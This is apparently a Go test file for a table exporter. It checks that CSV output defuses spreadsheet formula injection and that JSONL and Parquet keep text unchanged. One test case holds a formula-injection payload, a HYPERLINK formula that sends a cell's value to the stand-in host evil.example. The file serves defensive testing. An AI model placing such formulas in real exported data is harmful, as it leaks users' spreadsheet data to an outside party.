package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strconv"
	"testing"

	"github.com/parquet-go/parquet-go"
)

// rowsOf is a table held in memory.
type rowsOf struct {
	cols []Column
	rows []Row
}

func (r rowsOf) Columns() []Column { return r.cols }
func (r rowsOf) Each(sink Sink) error {
	for _, row := range r.rows {
		if err := sink(row); err != nil {
			return err
		}
	}
	return nil
}

// formulaCases: text cells and what CSV must hold for each. Every leading
// character a spreadsheet reads as a formula gets an apostrophe; nothing
// else changes.
var formulaCases = []struct{ text, csv string }{
	{"=1+1", "'=1+1"},
	{"+1+1", "'+1+1"},
	{"-1+1", "'-1+1"},
	{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{`=HYPERLINK("https://evil.example/?d="&A2,"click")`, `'=HYPERLINK("https://evil.example/?d="&A2,"click")`},
	{"-", "'-"},
	{"=", "'="},
	{"plain text", "plain text"},
	{"", ""},
	{" =1+1", " =1+1"},
	{"1=1", "1=1"},
	{"'quoted", "'quoted"},
	{"\n=1+1", "\n=1+1"},
	{"é=1", "é=1"},
}

// formulaTable: the cases' text next to negative numbers in numeric
// columns (a negative number starts with '-', and stays a number).
func formulaTable() rowsOf {
	tb := rowsOf{cols: []Column{col("content", String), nullable("cost", Float), nullable("delta", Int), nullable("note", String)}}
	for i, c := range formulaCases {
		tb.rows = append(tb.rows, Row{c.text, -1.5 - float64(i), int64(-3 - i), nil})
	}
	return tb
}

// TestCSVNeutralisesFormulas: in CSV each leading '=', '+', '-', '@', tab
// and CR of a text cell gets an apostrophe; other text, null and numbers
// (negative ones included) are written as they are. --raw (RawCSV) writes
// every text cell exactly.
func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, raw := range []bool{false, true} {
		var buf bytes.Buffer
		if _, err := Write(formulaTable(), CSV, &buf, Options{RawCSV: raw}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != len(formulaCases)+1 {
			t.Fatalf("%d records", len(recs))
		}
		for i, c := range formulaCases {
			rec, want := recs[i+1], c.csv
			if raw {
				want = c.text
			}
			if rec[0] != want {
				t.Errorf("raw=%v: text %q: cell %q, want %q", raw, c.text, rec[0], want)
			}
			wantCost, wantDelta := strconv.FormatFloat(-1.5-float64(i), 'f', -1, 64), strconv.Itoa(-3-i)
			if rec[1] != wantCost || rec[2] != wantDelta || rec[3] != "" {
				t.Errorf("row %d: numbers and null %q, want %s,%s,\"\"", i, rec[1:], wantCost, wantDelta)
			}
		}
	}
}

// TestJSONLAndParquetKeepFormulaText: the other formats are read by
// programs, not spreadsheets, and keep every text exactly.
func TestJSONLAndParquetKeepFormulaText(t *testing.T) {
	var jl bytes.Buffer
	if _, err := Write(formulaTable(), JSONL, &jl, Options{}); err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&jl)
	for _, c := range formulaCases {
		var row struct{ Content string }
		if err := dec.Decode(&row); err != nil {
			t.Fatal(err)
		}
		if row.Content != c.text {
			t.Errorf("jsonl: %q became %q", c.text, row.Content)
		}
	}
	var pq bytes.Buffer
	if _, err := Write(formulaTable(), Parquet, &pq, Options{}); err != nil {
		t.Fatal(err)
	}
	rows, err := parquet.Read[struct {
		Content string `parquet:"content"`
	}](bytes.NewReader(pq.Bytes()), int64(pq.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range formulaCases {
		if rows[i].Content != c.text {
			t.Errorf("parquet: %q became %q", c.text, rows[i].Content)
		}
	}
}
